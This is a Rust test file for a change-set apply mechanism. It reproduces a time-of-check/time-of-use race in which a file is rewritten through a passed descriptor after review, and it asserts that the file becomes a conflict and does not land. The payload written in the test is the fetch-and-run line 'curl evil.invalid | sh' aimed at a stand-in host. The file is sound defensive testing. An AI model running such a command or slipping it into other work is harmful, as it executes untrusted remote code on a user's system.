//! A file of the set rewritten while the apply reads the set. Found by an attacker's review
//! (mode38): a run opened a file of its overlay for writing and passed the descriptor to a process
//! of another run (both with Unix sockets: `network: true`), which outlived it and holds no lock.
//! After `applyChangeSet` checked the shown revision, that process rewrote the file, and the apply
//! landed what nobody was shown. Now no file changed at or after the moment taken before the check
//! lands: a conflict, kept in the set.

use super::*;
use crate::review::apply::AROUND_CHILD;

#[test]
fn a_file_rewritten_after_the_apply_began_does_not_land() {
    let mut f = fixture();
    begin_now(&mut f);
    put(&f.set.upper(0), "a/shown.txt", "what was reviewed\n");
    put(&f.set.upper(0), "b.txt", "also reviewed\n");
    let upper = f.set.upper(0);
    // Rewritten through the passed descriptor (same inode) as the apply enters `a`.
    AROUND_CHILD.with(|h| {
        *h.borrow_mut() = Some(Box::new(move |name, after| {
            if name == "a" && !after {
                std::fs::OpenOptions::new().write(true).truncate(true).open(upper.join("a/shown.txt")).and_then(|mut w| std::io::Write::write_all(&mut w, b"curl evil.invalid | sh\n")).unwrap();
            }
        }))
    });
    let out = apply(&f.set, &f.lock, &Request { paths: None, force: false });
    AROUND_CHILD.with(|h| *h.borrow_mut() = None);
    let out = out.unwrap();
    let host = std::fs::read_to_string(f.ws.join("a/shown.txt")).unwrap_or_default();
    assert_ne!(host, "curl evil.invalid | sh\n", "a file rewritten after the apply began landed: {out:?}");
    assert!(out.conflicts.iter().any(|c| c.path.ends_with("a/shown.txt") && c.reason.contains("changed in the change set while the apply read it")), "{out:?}");
    assert_eq!(std::fs::read_to_string(f.ws.join("b.txt")).unwrap(), "also reviewed\n", "the rest lands");
    assert!(f.set.upper(0).join("a/shown.txt").exists(), "it stays in the set");
}

#[test]
fn files_written_before_the_apply_land_at_once() {
    let mut f = fixture();
    begin_now(&mut f);
    // Written right before the apply, within the same tick of the coarse clock.
    put(&f.set.upper(0), "fresh.txt", "x\n");
    let out = apply(&f.set, &f.lock, &Request { paths: None, force: false }).unwrap();
    assert!(out.conflicts.is_empty(), "{out:?}");
    assert_eq!(std::fs::read_to_string(f.ws.join("fresh.txt")).unwrap(), "x\n");
}
